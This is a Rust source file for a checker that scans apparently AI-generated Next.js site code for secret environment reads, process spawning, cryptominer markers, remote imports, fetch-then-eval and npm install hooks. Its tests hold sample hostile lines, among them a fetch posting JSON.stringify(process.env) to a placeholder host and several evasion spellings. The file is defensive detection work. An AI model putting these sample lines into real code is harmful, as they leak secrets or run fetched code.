//! The checks over plain strings, so they run natively in tests.

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Severity {
    Error,
    Warning,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub severity: Severity,
    pub path: String,
    pub line: u32,
    pub message: String,
}

const SOURCE_EXTENSIONS: &[&str] = &[".js", ".jsx", ".ts", ".tsx", ".mjs", ".cjs"];

/// Parts of a variable name that mark it as a credential.
const SECRET_WORDS: &[&str] = &[
    "KEY",
    "SECRET",
    "TOKEN",
    "PASSWORD",
    "PASSWD",
    "CREDENTIAL",
    "PRIVATE",
    "AUTH",
];

/// Names the environment may be read by without a second look: set by Node or Next.js, or
/// public by Next.js's own convention.
fn harmless_variable(name: &str) -> bool {
    matches!(
        name,
        "NODE_ENV" | "NEXT_RUNTIME" | "PORT" | "HOSTNAME" | "VERCEL_ENV"
    ) || name.starts_with("NEXT_PUBLIC_")
}

const MINING_MARKERS: &[&str] = &[
    "coinhive",
    "coin-hive",
    "cryptonight",
    "cryptoloot",
    "crypto-loot",
    "xmrig",
    "webminer",
    "minero.cc",
    "stratum+tcp://",
    "stratum+ssl://",
    "monero-pool",
];

/// Every finding in the project's source files, in file order.
pub fn check(files: &[(&str, &str)]) -> Vec<Finding> {
    let mut findings = Vec::new();
    for (path, text) in files {
        if *path == "package.json" {
            check_install_scripts(text, &mut findings);
        }
        if !SOURCE_EXTENSIONS.iter().any(|ext| path.ends_with(ext)) {
            continue;
        }
        check_file(path, text, &mut findings);
    }
    findings
}

/// The project's own install hooks run inside the install container before any check of
/// the code they call: a website needs none, so any is refused. (Dependencies' hooks are
/// theirs, and run in the same locked-down container.)
fn check_install_scripts(manifest: &str, findings: &mut Vec<Finding>) {
    for hook in ["preinstall", "install", "postinstall"] {
        // A line-based look, so a package.json that is not JSON (package-json's to report)
        // still gets checked.
        let key = format!("\"{hook}\"");
        if let Some((number, _)) = manifest.lines().enumerate().find(|(_, line)| {
            line.trim_start().starts_with(&key) || line.contains(&format!("{key}:"))
        }) {
            findings.push(Finding {
                severity: Severity::Error,
                path: "package.json".into(),
                line: number as u32 + 1,
                message: format!(
                    "package.json has a {key} script, which npm runs while installing; a \
                     website needs none, and the arena refuses them"
                ),
            });
        }
    }
}

fn check_file(path: &str, text: &str, findings: &mut Vec<Finding>) {
    let mut found = |severity, line: usize, message: String| {
        findings.push(Finding {
            severity,
            path: path.to_owned(),
            line: line as u32 + 1,
            message,
        });
    };
    let fetches =
        text.contains("fetch(") || text.contains("axios") || text.contains("XMLHttpRequest");
    for (number, line) in text.lines().enumerate() {
        let code = code_of(line);

        // The environment.
        for name in env_reads(&code) {
            if harmless_variable(name) {
                continue;
            }
            if looks_secret(name) {
                found(
                    Severity::Error,
                    number,
                    format!(
                        "reads process.env.{name}, which looks like a secret: a generated site \
                         has none to read, and code that looks for them is refused"
                    ),
                );
            } else {
                found(
                    Severity::Warning,
                    number,
                    format!(
                        "reads process.env.{name}; the site runs with no configuration, so it \
                         is undefined"
                    ),
                );
            }
        }
        if let Some(whole) = whole_environment(&code) {
            found(
                Severity::Error,
                number,
                format!(
                    "reads the whole environment ({whole}): a generated site has no secrets to \
                     read, and code that looks for them is refused"
                ),
            );
        }

        // Processes.
        let spawns = ["child_process", "node:child_process"].iter().any(|name| {
            ['"', '\'', '`']
                .iter()
                .any(|quote| code.contains(&format!("{quote}{name}{quote}")))
        }) || code.contains("Bun.spawn")
            || code.contains("Deno.Command")
            // The name in pieces, as code that means to slip past a check like this writes it.
            || code.contains("\"child_\"+")
            || code.contains("'child_'+");
        if spawns {
            found(
                Severity::Error,
                number,
                "spawns processes (child_process): a website's code has no programs to run, \
                 and code that starts them is refused"
                    .into(),
            );
        }

        // Mining.
        let lower = line.to_ascii_lowercase();
        if let Some(marker) = MINING_MARKERS.iter().find(|marker| lower.contains(*marker)) {
            found(
                Severity::Error,
                number,
                format!("looks like a cryptocurrency miner ({marker}); refused"),
            );
        }

        // Remote code.
        if ["import(\"http", "import('http", "import(`http"]
            .iter()
            .any(|form| code.contains(form))
        {
            found(
                Severity::Error,
                number,
                "imports code from a URL at run time; the arena runs only the code the reply \
                 contains"
                    .into(),
            );
        }
        // In a file that fetches, any way of reaching eval counts (`window.eval(`,
        // `(0, eval)(`, `Function(` with or without `new`); elsewhere only plain calls warn.
        let evaluates = if fetches {
            code.contains("eval(") || code.contains("eval)(") || has_call(&code, "Function")
        } else {
            has_call(&code, "eval") || code.contains("newFunction(")
        };
        if evaluates {
            if fetches {
                found(
                    Severity::Error,
                    number,
                    "evaluates code (eval / new Function) in a file that fetches: running \
                     fetched code is refused"
                        .into(),
                );
            } else {
                found(
                    Severity::Warning,
                    number,
                    "evaluates code (eval / new Function); prefer plain functions".into(),
                );
            }
        }
    }
}

/// Whether a variable name looks like a credential: one of its `_`-separated words is a
/// secret word (`OPENAI_API_KEY`, `DB_PASSWORD`), so `AUTHOR` or `MONKEY` are not.
fn looks_secret(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper.ends_with("APIKEY")
        || upper.split('_').any(|part| {
            SECRET_WORDS
                .iter()
                .any(|word| part == *word || part.strip_suffix('S') == Some(word))
        })
}

/// A line as code: JSX text (between `>` and `<`, where prose about `process.env` lives)
/// removed, whitespace dropped (so `process .env` reads as `process.env`) and optional
/// chaining folded (`process.env?.X` is `process.env.X`).
fn code_of(line: &str) -> String {
    let mut code = String::with_capacity(line.len());
    let mut in_text = false;
    let mut previous = ' ';
    for c in line.chars() {
        match c {
            // `=>` is an arrow, not the end of a tag.
            '>' if !in_text && previous != '=' => {
                code.push(c);
                in_text = true;
            }
            '<' | '{' if in_text => {
                in_text = false;
                code.push(c);
            }
            _ if in_text => {}
            c if c.is_whitespace() => {}
            c => code.push(c),
        }
        previous = c;
    }
    code.replace("?.", ".")
}

/// Variable names read as `process.env.NAME` or `process.env["NAME"]` in `code`.
fn env_reads(code: &str) -> Vec<&str> {
    let mut names = Vec::new();
    let mut rest = code;
    while let Some(at) = rest.find("process.env") {
        let after = &rest[at + "process.env".len()..];
        let name = if let Some(dotted) = after.strip_prefix('.') {
            let end = dotted
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(dotted.len());
            &dotted[..end]
        } else {
            bracketed_literal(after).unwrap_or("")
        };
        if !name.is_empty() {
            names.push(name);
        }
        rest = after;
    }
    names
}

/// `["NAME"]` (or `['NAME']`) at the start of `text`: one literal and nothing else, so
/// `["OPENAI" + "_API_KEY"]` is not mistaken for a read of `OPENAI`.
fn bracketed_literal(text: &str) -> Option<&str> {
    let quote = text
        .strip_prefix('[')?
        .chars()
        .next()
        .filter(|c| matches!(c, '"' | '\''))?;
    let inner = &text[2..];
    let end = inner.find(quote)?;
    inner[end + 1..].starts_with(']').then(|| &inner[..end])
}

/// How `code` reads the environment as a whole, if it does: any use of `process.env` not
/// followed by a fixed name (`Object.keys(process.env)`, `{ ...process.env }`,
/// `process.env[name]`, passing the object on), `process["env"]`, or destructuring it.
fn whole_environment(code: &str) -> Option<String> {
    if code.contains("process[") {
        return Some("process[...]".into());
    }
    if code.contains("}=process;") || code.ends_with("}=process") || code.contains("}=process,") {
        return Some("destructured from process".into());
    }
    code.match_indices("process.env").find_map(|(at, _)| {
        let after = &code[at + "process.env".len()..];
        if after.starts_with('.') || bracketed_literal(after).is_some() {
            return None;
        }
        let before = &code[..at];
        let form = [
            ("Object.keys(", "Object.keys(process.env)"),
            ("Object.entries(", "Object.entries(process.env)"),
            ("Object.values(", "Object.values(process.env)"),
            ("JSON.stringify(", "JSON.stringify(process.env)"),
            ("...", "...process.env"),
        ]
        .iter()
        .find(|(prefix, _)| before.ends_with(prefix))
        .map(|(_, form)| *form)
        .unwrap_or(if after.starts_with('[') {
            "process.env[...]"
        } else {
            "the process.env object"
        });
        Some(form.to_owned())
    })
}

/// Whether `code` calls `name(` as a function of its own (not `.name(` or `xname(`).
fn has_call(code: &str, name: &str) -> bool {
    let call = format!("{name}(");
    code.match_indices(&call).any(|(at, _)| {
        code[..at]
            .chars()
            .next_back()
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.' || c == '$'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn errors(files: &[(&str, &str)]) -> Vec<String> {
        check(files)
            .into_iter()
            .filter(|f| f.severity == Severity::Error)
            .map(|f| format!("{}:{}: {}", f.path, f.line, f.message))
            .collect()
    }

    #[test]
    fn a_plain_site_passes() {
        let page = "export default function Page() {\n  const [n, setN] = useState(0);\n  \
                    return <button onClick={() => setN(n + 1)}>{n}</button>;\n}\n";
        assert!(check(&[("app/page.js", page)]).is_empty());
    }

    #[test]
    fn secrets_in_the_environment_are_refused_and_other_reads_warned() {
        let text = "const key = process.env.OPENAI_API_KEY;\nconst url = process.env.API_URL;\n\
                    const mode = process.env.NODE_ENV;\nconst t = process.env[\"GITHUB_TOKEN\"];\n";
        let found = check(&[("app/api/route.ts", text)]);
        let summary: Vec<(Severity, u32)> = found.iter().map(|f| (f.severity, f.line)).collect();
        assert_eq!(
            summary,
            [
                (Severity::Error, 1),
                (Severity::Warning, 2),
                (Severity::Error, 4)
            ]
        );
        assert!(found[0].message.contains("process.env.OPENAI_API_KEY"));
    }

    #[test]
    fn the_whole_environment_is_refused_in_each_spelling() {
        for line in [
            "fetch('https://x.example', { body: JSON.stringify(process.env) })",
            "for (const k of Object.keys(process.env)) {}",
            "const all = { ...process.env };",
            "const env = process.env;",
            "const v = process.env[name];",
        ] {
            assert_eq!(errors(&[("lib/a.js", line)]).len(), 1, "{line}");
        }
        assert!(errors(&[("lib/a.js", "const v = process.env.NEXT_PUBLIC_X;")]).is_empty());
    }

    #[test]
    fn processes_miners_and_remote_code_are_refused() {
        let cases = [
            "import { execSync } from \"child_process\";",
            "const { spawn } = require('node:child_process');",
            "<script src=\"https://coinhive.com/lib/coinhive.min.js\" />",
            "const pool = 'stratum+tcp://pool.example:3333';",
            "const mod = await import(\"https://cdn.example/x.js\");",
        ];
        for line in cases {
            assert_eq!(errors(&[("app/page.js", line)]).len(), 1, "{line}");
        }
        let fetched = "const code = await (await fetch(url)).text();\neval(code);\n";
        assert_eq!(
            errors(&[("app/page.js", fetched)]),
            [
                "app/page.js:2: evaluates code (eval / new Function) in a file that fetches: running \
             fetched code is refused"
            ]
        );
        // Without a fetch, eval is only a warning; `.eval(` is some other method.
        assert!(errors(&[("app/page.js", "eval('1 + 1'); math.eval(x);")]).is_empty());
    }

    #[test]
    fn ordinary_sites_pass_public_names_prose_and_lookalike_words() {
        let page = "const maps = process.env.NEXT_PUBLIC_MAPS_API_KEY;\n\
                    const who = process.env.NEXT_PUBLIC_AUTHOR;\n\
                    const mode = process.env?.NODE_ENV;\n\
                    const m = process.env.MONKEY_COUNT;\n\
                    <p>Configuration is read from process.env at run time.</p>\n\
                    <p>Never call require(\"child_process\") in a page.</p>\n\
                    const double = (n) => n * 2;\n";
        assert_eq!(errors(&[("app/page.js", page)]), Vec::<String>::new());
    }

    #[test]
    fn the_usual_ways_around_are_caught() {
        for line in [
            "const env = process[\"env\"];",
            "const { env } = process;",
            "const k = process.env[\"OPENAI\" + \"_API_KEY\"];",
            "const k = process .env.ANTHROPIC_API_KEY;",
            "const cp = require(\"child_\" + \"process\");",
            "const mod = await import( \"https://cdn.example/x.js\");",
        ] {
            assert_eq!(errors(&[("lib/a.js", line)]).len(), 1, "{line}");
        }
        let fetched = "const code = await (await fetch(url)).text();\n";
        for call in [
            "window.eval(code);",
            "(0, eval)(code);",
            "Function(code)();",
        ] {
            let text = format!("{fetched}{call}\n");
            assert_eq!(errors(&[("app/page.js", &text)]).len(), 1, "{call}");
        }
    }

    #[test]
    fn install_hooks_of_the_project_are_refused() {
        let manifest = "{\n  \"scripts\": {\n    \"postinstall\": \"node -e \\\"require('child_process')\\\"\",\n    \"build\": \"next build\"\n  }\n}\n";
        let found = errors(&[("package.json", manifest)]);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].starts_with("package.json:3: package.json has a \"postinstall\" script"));
    }

    #[test]
    fn only_source_files_are_read() {
        let readme = "Run with OPENAI_API_KEY: process.env.OPENAI_API_KEY";
        assert!(check(&[("README.md", readme)]).is_empty());
    }
}
